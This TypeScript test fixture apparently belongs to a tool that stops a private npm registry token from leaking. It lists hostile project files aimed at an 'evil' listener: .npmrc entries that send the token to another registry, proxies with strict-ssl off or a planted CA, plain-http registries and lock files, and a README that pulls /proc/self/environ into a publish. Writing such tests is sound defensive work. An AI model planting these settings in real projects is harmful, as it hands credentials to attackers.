/** Data files of a Node.js project that want the token of the registry. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { names } from "../../../sandbox/main.ts";
import type { HostileListener } from "../listener.ts";

export const host = names.packageHost;
export const endpoint = `${host}/npm/${names.repository}/`;
export const variable = `npm_config_//${endpoint}:_authToken`;

/** Files of a project that want the token, with what the person must be told; none where npm goes on by itself. */
export const hostileFiles: [
  what: string,
  files: (evil: HostileListener) => Record<string, string>,
  words: RegExp | null,
][] = [
  [
    "another registry with our variable",
    (evil) => ({ ".npmrc": `registry=${evil.url}/npm/\n//${bare(evil.url)}/npm/:_authToken=\${${variable}}\n` }),
    /\.npmrc: .*:_authToken names the variable of a token/,
  ],
  [
    "another registry with the variable of vouch exec",
    (evil) => ({ ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n` }),
    null,
  ],
  [
    "a proxy and strict-ssl=false",
    (evil) => ({ ".npmrc": `https-proxy=${evil.url}/\nstrict-ssl=false\n` }),
    /\.npmrc: strict-ssl/,
  ],
  [
    "a proxy and a cafile",
    (evil) => ({ ".npmrc": `https-proxy=${evil.url}/\ncafile=./ca.pem\n`, "ca.pem": evil.ca }),
    /\.npmrc: cafile/,
  ],
  [
    "a proxy and a ca",
    (evil) => ({ ".npmrc": `https-proxy=${evil.url}/\nca="${evil.ca.trim().replaceAll("\n", "\\n")}"\n` }),
    /gets no token here: .*\.npmrc: ca decides whom the connection trusts/,
  ],
  ["plain http", () => ({ ".npmrc": `registry=http://${endpoint}\n` }), /\.npmrc: registry .*plain http/],
  [
    "plain http in a dependency",
    () => ({
      "package.json": JSON.stringify({
        name: "app",
        version: "1.0.0",
        dependencies: { "my-lib": `HTTP://${host.toUpperCase()}/npm/${names.repository}/my-lib/-/my-lib-1.0.0.tgz` },
      }),
    }),
    /package\.json: dependencies\.my-lib .*plain http/,
  ],
];

/** Other files and places of the same kind, each with what is named. */
export const otherFiles: [
  what: string,
  files: (evil: HostileListener) => Record<string, string>,
  command: string[],
  words: RegExp,
][] = [
  [
    "npm publish with trust in publishConfig",
    (evil) => ({ "package.json": manifest({ publishConfig: { "https-proxy": evil.url, "strict-ssl": false } }) }),
    ["publish"],
    /package\.json: publishConfig\.https-proxy decides through whom the connection goes/,
  ],
  [
    "npm publish with plain http in publishConfig",
    () => ({ "package.json": manifest({ publishConfig: { registry: `http://${endpoint}` } }) }),
    ["publish"],
    /package\.json: publishConfig\.registry .*plain http/,
  ],
  [
    "npm publish of this process's environment",
    () => ({ "package.json": manifest({}), "README.md": "link to /proc/self/environ" }),
    ["publish"],
    /README\.md: \/proc\/.*no file of the package/,
  ],
  [
    "a workspace's member",
    () => ({
      "package.json": manifest({ workspaces: ["packages/*"] }),
      "packages/a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
    }),
    ["install"],
    /packages\/a\/package\.json: dependencies\.x /,
  ],
  [
    "a workspace's member that is a link to a folder",
    () => ({
      "package.json": manifest({ workspaces: ["packages/*"] }),
      "elsewhere/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
      "packages/a": "link to ../elsewhere",
    }),
    ["install"],
    /packages\/a\/package\.json: dependencies\.x /,
  ],
  ...["w/", "~/PROJECT/w"].map((spec): (typeof otherFiles)[number] => [
    `a dependency in a folder, spelled ${spec}`,
    () => ({
      "package.json": manifest({ dependencies: { w: spec } }),
      "w/package.json": JSON.stringify({ name: "w", dependencies: { x: `http://${endpoint}x.tgz` } }),
    }),
    ["install"],
    /\/w\/package\.json: dependencies\.x /,
  ]),
  [
    "a dependency in a repository of the project",
    () => ({ "package.json": manifest({ dependencies: { b: "git+file:~/PROJECT/h.git" } }) }),
    ["install"],
    /package\.json: git\+file:~\/.*h\.git is a repository in the project/,
  ],
  [
    "a dependency in a folder",
    () => ({
      "package.json": manifest({ dependencies: { a: "file:./a" } }),
      "a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
    }),
    ["install"],
    /\/a\/package\.json: dependencies\.x /,
  ],
  [
    "another folder by --prefix",
    (evil) => ({ "b/package.json": manifest({}), "b/.npmrc": `https-proxy=${evil.url}\nca=x\n` }),
    ["--prefix", "b", "install", "my-lib"],
    /b\/\.npmrc: ca /,
  ],
  [
    "a client certificate for the registry",
    () => ({ ".npmrc": `//${endpoint}:certfile=./c.pem\n//${endpoint}:keyfile=./k.pem\n` }),
    ["install"],
    /\.npmrc: \/\/.*:certfile/,
  ],
  [
    "other user settings",
    () => ({ ".npmrc": "userconfig=./other\n", other: "ca=x\n" }),
    ["install"],
    /userconfig decides which settings are read as yours/,
  ],
  [
    "a lock file whose host npm replaces",
    () => ({ "npm-shrinkwrap.json": lock(`http://${publicRegistryHost()}/my-lib/-/my-lib-1.0.0.tgz`) }),
    ["ci"],
    /npm-shrinkwrap\.json: .*resolved/,
  ],
  [
    "yarn's lock file",
    () => ({ "yarn.lock": `my-lib@^1.0.0:\n  version "1.0.0"\n  resolved "http://${endpoint}my-lib-1.0.0.tgz#a"\n` }),
    ["install"],
    /yarn\.lock: .*plain http/,
  ],
  [
    "another repository of the host in the lock file",
    () => ({ "package-lock.json": lock(`https://${endpoint}../other/my-lib-1.0.0.tgz`) }),
    ["install"],
    /package-lock\.json: .*resolved leads to another repository of a host that gets the token/,
  ],
  [
    "another repository of the host as a dependency",
    () => ({ "package.json": manifest({ dependencies: { x: `https://${other}x.tgz` } }) }),
    ["install"],
    /package\.json: https:.* leads to another repository of a host that gets the token/,
  ],
  ["the command line", () => ({}), ["install", `http://${endpoint}my-lib`], /The command line: http/],
];

/** Another repository's address, without its scheme. */
const other = endpoint.replace(/[^/]+\/$/, "other/");

/** A lock file of pnpm's with that address. */
export const pnpmLock = (tarball: string) => `lockfileVersion: '9.0'
packages:
  my-lib@1.0.0:
    resolution: {tarball: "${tarball}"}
`;

/** The host that npm calls `npmjs`, from npm's own definition of `replace-registry-host`. */
function publicRegistryHost(): string {
  const definitions = join(
    import.meta.dir,
    "../../../../.tools/npm-11/node_modules/npm/node_modules/@npmcli/config/lib/definitions/definitions.js",
  );
  return /default: 'https:\/\/([\w.-]*npmjs[\w.-]*)\/'/.exec(readFileSync(definitions, "utf8"))![1]!;
}

export const manifest = (more: object) => JSON.stringify({ name: "app", version: "1.0.0", ...more });

export const lock = (resolved: string) =>
  JSON.stringify({
    name: "app",
    version: "1.0.0",
    lockfileVersion: 3,
    packages: {
      "": { name: "app", version: "1.0.0", dependencies: { "my-lib": "^1.0.0" } },
      "node_modules/my-lib": { version: "1.0.0", resolved },
    },
  });

export const bare = (url: string) => url.slice("http://".length);
